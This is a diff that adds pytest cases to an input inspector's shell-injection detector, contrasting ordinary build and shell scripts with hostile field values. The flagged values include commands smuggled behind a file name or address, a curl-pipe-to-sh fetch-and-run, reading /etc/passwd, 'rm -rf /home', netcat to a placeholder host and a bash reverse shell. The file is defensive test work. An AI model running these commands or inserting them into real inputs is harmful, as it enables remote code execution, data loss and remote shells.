@@ -112,6 +112,43 @@ def test_what_breaks_out_of_a_value_is_one(inspector: Inspector, value: str) -> 
     assert "sql_injection" in _classes(inspector, {"id": value})
 
 
+@pytest.mark.parametrize(
+    "script",
+    [
+        "cd /srv/app && git pull && npm ci && npm run build",
+        "ps aux | grep python | awk '{print $2}' | xargs kill -15",
+        "make -j4 && sudo make install",
+        "#!/bin/sh\nset -e\nfor f in *.txt; do cat $f | wc -l; done; echo done",
+        "ROOT=$(cd .. && pwd); export PATH=$ROOT/bin:$PATH",
+        "clean:\n\trm -rf $(OBJS) lib$(EXT)\n\tcd src && ls -la",
+        "find . -name '*.pyc' -exec rm -f {} \\;",
+        "docker run --rm -v $(pwd):/app image sh -c 'ls; env'",
+        "Install it:\n\n    $ curl -LO https://h.example/x.tgz; tar xf x.tgz && ls -l",
+        "(fish|bash|zsh|sh|csh|ksh)",
+        "if (!found) {\n    cmd;\n    cmd;\n}",
+    ],
+)
+def test_a_script_is_no_injection(inspector: Inspector, script: str) -> None:
+    assert "shell_injection" not in _classes(inspector, {"script": script})
+
+
+@pytest.mark.parametrize(
+    "value",
+    [
+        "127.0.0.1; ping -c 4 h.example",
+        "report.txt && curl http://h.example/x -o /tmp/x",
+        "$(cat /etc/passwd)",
+        "x`id`",
+        "Bob\nrm -rf /home",
+        "photo.jpg|nc h.example 4444",
+        "cd /tmp; curl http://h.example/x | sh",
+        "ls -l; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+    ],
+)
+def test_a_command_behind_a_value_is_one(inspector: Inspector, value: str) -> None:
+    assert "shell_injection" in _classes(inspector, {"name": value})
+
+
 @pytest.mark.parametrize("text", ["2031-11-15", "15.11.2031", "120.97388", "2025 14"])
 def test_dates_and_coordinates_are_no_telephone_numbers_even_beside_the_word(text: str) -> None:
     assert not VALIDATORS["phone_told"](text)
